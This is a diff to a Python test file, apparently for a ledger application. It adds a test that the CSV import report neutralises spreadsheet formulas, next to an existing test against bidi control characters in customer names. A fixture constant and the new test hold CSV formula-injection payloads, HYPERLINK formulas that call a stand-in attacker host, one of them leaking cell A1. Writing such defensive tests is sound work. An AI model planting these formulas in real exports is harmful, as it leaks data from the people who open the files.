@@ -6,10 +6,11 @@ import csv
 import io
 from datetime import UTC, datetime
 
+from core.csv_cells import csv_cell
 from domain.models import Customer
+from starters.csv_import import ImportReport, RowReport, write_report
 from tests.ui import ledger_seed as seed
 from tests.ui.conftest import signed_in
-from ui.reports import csv_cell
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 
@@ -44,3 +45,12 @@ async def test_bidi_controls_in_a_customer_name_cannot_reorder_the_staff_page(we
     for page in pages:
         for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f":
             assert control not in page
+
+
+def test_the_csv_import_report_never_writes_a_formula(tmp_path):
+    """`desk import-csv --report` echoes what the file said; a cell like =HYPERLINK(…) must stay text."""
+    path = tmp_path / "report.csv"
+    write_report(ImportReport([RowReport(row=2, error='=HYPERLINK("http://evil.example","x")')]), path)
+    with open(path, encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[1][5] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
